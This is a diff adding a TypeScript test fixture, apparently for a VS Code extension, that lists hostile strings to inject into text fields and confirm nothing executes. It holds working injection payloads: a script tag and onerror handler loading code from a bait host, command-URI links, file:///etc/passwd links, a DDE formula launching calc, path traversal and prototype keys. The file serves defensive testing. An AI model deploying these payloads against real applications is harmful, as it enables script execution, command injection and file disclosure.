@@ -1,0 +1,57 @@
+// Texts that try to act: each is put into every text field of a thing. None does harm to who reads it as text.
+
+export interface HostileText {
+  /** What it is about, in plain letters. */
+  readonly name: string;
+  /** As a title or a description has it. */
+  readonly text: string;
+}
+
+/** Where a thing repeats its text in many fields, so that one thing stays of a size that can be sent. */
+export function repeated({ text }: HostileText): string {
+  return text.slice(0, 5_000);
+}
+
+/** Run by no one but a link: a test may register it and see that it never is. */
+export const markerCommand = 'sampleHostile.marker';
+export const hugeLength = 1_000_000;
+
+/** `bait` is the address of a server that nobody has a reason to ask. */
+export function hostileTexts(bait: string): readonly HostileText[] {
+  return [
+    { name: 'command', text: '[Show details](command:workbench.action.files.newUntitledFile) x' },
+    { name: 'marker', text: `[Show details](command:${markerCommand} "Retry")` },
+    { name: 'argument', text: `[Show details](command:vscode.open?%5B%22${encodeURIComponent(bait)}%22%5D)` },
+    { name: 'web', text: `[Show details](${bait}/link) <${bait}/auto> ${bait}/bare www.example.org x@example.org` },
+    { name: 'file', text: '[Show details](file:///etc/passwd) file:///etc/passwd' },
+    { name: 'scheme', text: '[Show details](vscode:extension/sample.hostile) vscode://sample.hostile/run' },
+    { name: 'brackets', text: `[[a]](command:${markerCommand}) [b\\](command:${markerCommand}) [c\n](file:///etc)` },
+    { name: 'halves', text: `](command:${markerCommand}) [` },
+    { name: 'reference', text: `[Show details][1]\n\n[1]: command:${markerCommand}\n` },
+    { name: 'image', text: `![x](${bait}/pixel.png) ![x][1]\n\n[1]: ${bait}/second.png` },
+    {
+      name: 'html',
+      text: `</style><script src="${bait}/x.js"></script><img src=x onerror="import('${bait}/xss.js')">`,
+    },
+    {
+      name: 'anchor',
+      text: `<a href="command:${markerCommand}">Show details</a><iframe src="${bait}/frame"></iframe>`,
+    },
+    { name: 'icons', text: '$(alert) $(sync~spin) $(a' },
+    { name: 'bidi', text: 'invoice\u202efdp.exe \u2066\u2069\u200f\u061c' },
+    { name: 'invisible', text: 'a\u200bb\u2060c\ufeffd\u00ade\u{e0041}\u{e007f}\u180e' },
+    { name: 'control', text: 'a\u0000b\u0007c\u001b[31md\u009be\rf\ng\u2028h\u2029i\u0085j\tk' },
+    { name: 'surrogate', text: 'half \ud83d of a pair' },
+    { name: 'marks', text: `z${'\u0310\u0489'.repeat(500)}` },
+    { name: 'formula', text: `=HYPERLINK("${bait}/cell","Show details")` },
+    { name: 'plus', text: "+1+cmd|' /C calc'!A0" },
+    { name: 'minus', text: '-1+1' },
+    { name: 'at', text: '@SUM(1+1)' },
+    { name: 'tab', text: '\t=1+1' },
+    { name: 'return', text: '\r=1+1","=1+1' },
+    { name: 'path', text: '../../../../../../x' },
+    { name: 'prototype', text: '__proto__' },
+    { name: 'placeholder', text: '{0} {1} ${env:HOME} %PATH% $& $1' },
+    { name: 'huge', text: `[Show details](command:${markerCommand}) ${'A'.repeat(hugeLength)}` },
+  ];
+}
